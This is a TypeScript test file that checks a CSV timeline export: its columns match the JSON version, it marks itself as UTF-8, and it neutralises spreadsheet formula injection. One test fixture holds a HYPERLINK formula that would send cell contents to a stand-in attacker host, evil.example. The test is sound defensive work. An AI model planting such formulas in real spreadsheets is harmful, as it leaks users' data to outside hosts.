import Papa from 'papaparse'
import { expect, test } from 'vitest'
import { timelineJson } from './timeline-json.ts'
import { timelineCsv } from './timeline-csv.ts'
import { address, readStories } from '../tests/stories.ts'

const { own, hostile, all } = await readStories()
const read = (text: string) =>
  Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true })

test.for(all)('a CSV reader finds every event of %s', ([, story]) => {
  const { data, errors } = read(timelineCsv(story, address))
  expect(errors).toEqual([])
  const { events } = timelineJson(story, address)
  expect(
    data.map((row) => [
      row['id'],
      row['url'],
      unguarded(row['title']),
      unguarded(row['summary']),
      row['edtf'],
      row['precision'],
      row['earliest'] || null,
      row['latest'] || null,
      row['part'] || undefined,
      unguarded(row['inferred']),
      unguarded(row['text']),
      row['citations']?.split('\n').length,
      row['published'],
    ]),
  ).toEqual(
    events.map(({ id, url, title, summary, date, image, inferred, text, published }) => [
      id,
      url,
      title,
      summary,
      date.edtf,
      date.precision,
      date.earliest,
      date.latest,
      date.part,
      inferred?.text ?? '',
      text.map((statement) => statement.text).join('\n'),
      [...(image ? [image.caption] : []), ...text, ...(inferred ? [inferred] : [])].flatMap(
        ({ citations }) => citations,
      ).length,
      published,
    ]),
  )
  for (const [index, event] of story.events.entries())
    for (const { question, accounts } of event.differences) {
      expect(data[index]?.['differences']).toContain(question)
      for (const { statement } of accounts) expect(data[index]?.['differences']).toContain(statement.text)
    }
})

test('no cell that somebody wrote begins as a formula', () => {
  const { data } = read(timelineCsv(hostile, address))
  expect(data.find(({ id }) => id === 'a-formula')?.['title']).toBe(
    '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
  )
  for (const { edtf: _, earliest: __, latest: ___, ...row } of data)
    for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
})

test('coordinates stand on the line of their place, and are no formula', () => {
  const [row] = read(timelineCsv(hostile, address)).data
  expect(row).toMatchObject({ place_countries: 'ID', place_coordinates: "'-8.05, 115.1" })
})

test('the table says that it is UTF-8', () => {
  expect(timelineCsv(own, address)).toMatch(/^\ufeffid,url,title,/)
})

const unguarded = (cell = '') => cell.replace(/^'(?=[=+\-@])/, '')
